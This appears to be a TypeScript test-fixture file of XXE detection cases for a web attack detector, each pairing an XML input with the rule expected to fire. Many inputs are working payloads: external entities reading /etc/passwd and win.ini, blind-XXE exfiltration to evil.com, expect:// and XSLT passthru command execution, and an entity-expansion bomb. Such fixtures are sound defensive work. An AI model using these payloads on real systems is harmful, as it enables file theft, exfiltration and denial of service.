import type { ValueKind } from '../../inspectable.js';

/** A detection case: `expect` is the rule that must fire, or null when nothing may fire. */
export interface XxeCase {
  readonly input: string;
  readonly kind?: ValueKind;
  /** Defaults to `query.x`. */
  readonly location?: string;
  readonly expect: string | null;
}

const EXTERNAL = 'xxe/external-entity';
const PARAMETER = 'xxe/parameter-entity';
const DOCTYPE: ValueKind = 'xml-doctype';

/** XXE cases shared by the unit test, the benchmark and the fuzz target. */
export const xxeCases: readonly XxeCase[] = [
  { input: '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', kind: DOCTYPE, expect: EXTERNAL },
  { input: '<!ENTITY xxe SYSTEM "file:///etc/passwd">', kind: DOCTYPE, expect: EXTERNAL },
  { input: "<!doctype r [<!entity x system 'http://evil.com/x'>]>", kind: DOCTYPE, expect: EXTERNAL },
  { input: '<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]>', kind: DOCTYPE, expect: EXTERNAL },
  {
    input: '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]>',
    kind: DOCTYPE,
    expect: EXTERNAL,
  },
  {
    input: '<!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://evil.com/a.jar!/x">]>',
    kind: DOCTYPE,
    expect: EXTERNAL,
  },
  {
    input: '<!DOCTYPE r [<!ENTITY x PUBLIC "-//x//EN" "http://evil.com/x.dtd">]>',
    kind: DOCTYPE,
    expect: EXTERNAL,
  },
  {
    input: '<!DOCTYPE r [\n  <!ENTITY\n    x\n    SYSTEM\n    "/etc/hostname">\n]>',
    kind: DOCTYPE,
    expect: EXTERNAL,
  },
  {
    input: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>',
    kind: 'body-text',
    expect: EXTERNAL,
  },
  {
    input: '%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E',
    expect: EXTERNAL,
  },
  {
    input: '<svg><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><text>&x;</text></svg>',
    kind: 'file-content',
    expect: EXTERNAL,
  },
  // Blind XXE: parameter entities and external DTDs.
  {
    input: '<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.com/evil.dtd"> %dtd;]>',
    kind: DOCTYPE,
    expect: PARAMETER,
  },
  { input: '<!ENTITY % file SYSTEM "file:///etc/passwd">', kind: DOCTYPE, expect: PARAMETER },
  {
    input: '<!ENTITY % all "<!ENTITY send SYSTEM \'http://evil.com/?%file;\'>">',
    kind: DOCTYPE,
    expect: EXTERNAL,
  },
  { input: '<!DOCTYPE r [<!ENTITY % local "x"> %local;]>', kind: DOCTYPE, expect: PARAMETER },
  { input: '<!DOCTYPE r SYSTEM "http://evil.com/evil.dtd">', kind: DOCTYPE, expect: 'xxe/external-dtd' },
  { input: '<!DOCTYPE note SYSTEM "Note.dtd">', kind: DOCTYPE, expect: 'xxe/external-dtd' },
  {
    input: '<!DOCTYPE book [<!ENTITY chapter1 SYSTEM "chapter1.xml">]>',
    kind: 'file-content',
    expect: EXTERNAL,
  },
  // Expansion bombs and odd internal entities.
  {
    input: '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>',
    kind: DOCTYPE,
    expect: 'xxe/entity-expansion',
  },
  { input: '<!DOCTYPE r [<!ENTITY company "ACME Inc.">]>', kind: DOCTYPE, expect: 'xxe/internal-entity' },
  // XInclude.
  {
    input:
      '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    kind: 'body-text',
    expect: 'xxe/xinclude',
  },
  { input: '<xi:include href="file:///etc/passwd" parse="text"/>', expect: 'xxe/xinclude' },
  {
    input: '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="x.xml"/>',
    kind: 'body-value',
    expect: 'xxe/xinclude',
  },
  // XSLT: code for the server's transformer; certain when it calls out of the stylesheet.
  {
    input: "<xsl:value-of select=\"php:function('passthru','id')\"/>",
    kind: 'body-text',
    expect: 'xxe/xslt',
  },
  {
    input: '<xsl:copy-of select="document(\'/etc/passwd\')"/>',
    kind: 'body-text',
    expect: 'xxe/xslt',
  },
  { input: '<xsl:value-of select="system-property(\'xsl:vendor\')"/>', expect: 'xxe/xslt' },
  { input: 'the xsl:template element matches nodes', expect: null },
  // Benign: standard DOCTYPEs, XML without declarations, prose about XML.
  { input: '<!DOCTYPE html>', kind: DOCTYPE, expect: null },
  {
    input:
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    kind: DOCTYPE,
    expect: null,
  },
  {
    input:
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    kind: 'file-content',
    expect: null,
  },
  { input: '<!DOCTYPE note>', kind: DOCTYPE, expect: null },
  { input: '<!DOCTYPE html SYSTEM "about:legacy-compat">', kind: DOCTYPE, expect: null },
  {
    input:
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    kind: 'file-content',
    expect: 'xxe/external-dtd',
  },
  { input: '<?xml version="1.0"?><order><id>1</id></order>', kind: 'body-text', expect: null },
  { input: '<!-- comment --><a>text</a>', kind: 'body-value', expect: null },
  { input: '<![CDATA[ x < y ]]>', kind: 'body-value', expect: null },
  { input: 'Use <!ENTITY to declare entities in a DTD.', kind: 'body-value', expect: null },
  { input: 'We include a file: see include.php', expect: null },
  { input: '#include <stdio.h>', kind: 'body-value', expect: null },
  { input: 'ns:include', expect: null },
  { input: '<!', expect: null },
];
